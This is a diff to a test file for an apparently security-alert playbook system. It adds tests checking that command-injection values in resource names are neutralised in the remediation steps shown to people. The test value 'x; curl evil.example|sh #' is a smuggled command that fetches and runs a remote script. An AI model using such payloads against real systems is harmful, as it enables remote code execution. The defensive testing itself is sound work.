@@ -2,10 +2,12 @@ import { describe, expect, it } from 'vitest';
 import { exampleEvents } from '../../core/example-event/example-events.ts';
 import { activeFindingTypes } from '../../core/finding-types.ts';
 import type { JsonObject } from '../../core/json.ts';
+import { changeEvent } from '../../core/playbook/change-event.ts';
 import { createSelector } from '../../core/playbook/select-playbooks.ts';
 import { score, ScoreConfig } from '../../core/score/score.ts';
 import { shippedPlaybooks } from '../../runtime/home/shipped-playbooks.ts';
 import { loadLibrary } from '../../runtime/playbooks/library.ts';
+import { loadExample } from '../support/findings/load-event.ts';
 import { normaliseOne } from '../support/findings/normalise-event.ts';
 import { openTestHome } from '../support/home.ts';
 
@@ -186,6 +188,31 @@ describe('where people agree to what they are asked', () => {
       // Who is told is told what to do.
       const told = (await home.report()).notifications.filter(({ kind }) => kind === 'note');
       if (actions.length === 0) expect(told.map(({ body }) => body).join()).toMatch(/\n1\. .*\n2\. /);
+    } finally {
+      await home.close();
+    }
+  });
+});
+
+const hostile = 'x; curl evil.example|sh #';
+
+describe('a name that would run as a command', () => {
+  const examples: [string, string][] = [
+    ['eks-pod-mining', '/detail/resource/kubernetesDetails/kubernetesWorkloadDetails/name'],
+    ['eks-pod-mining', '/detail/resource/kubernetesDetails/kubernetesWorkloadDetails/namespace'],
+    ['ecs-task-mining', '/detail/resource/ecsClusterDetails/name'],
+    ['kubernetes-privileged-container', '/detail/resource/kubernetesDetails/kubernetesWorkloadDetails/type'],
+    ['rds-brute-force', '/detail/resource/rdsDbInstanceDetails/dbClusterIdentifier'],
+    ['role-credentials-exfiltrated', '/detail/resource/instanceDetails/instanceId'],
+  ];
+  it.each(examples)('is harmless in what %s tells people to type (%s)', async (example, pointer) => {
+    const home = await openTestHome({ library, config: { mode: 'shadow' } });
+    try {
+      await home.send(changeEvent(loadExample(example), { [pointer]: hostile }));
+      const notes = (await home.report()).notifications.filter(({ kind }) => kind === 'note');
+      const steps = notes.flatMap(({ body }) => body.split('\n').filter((line) => /^\d\. /.test(line)));
+      expect(steps.join('\n')).toContain('x??curl?evil.example?sh??');
+      expect(steps.filter((line) => line.includes(hostile))).toEqual([]);
     } finally {
       await home.close();
     }
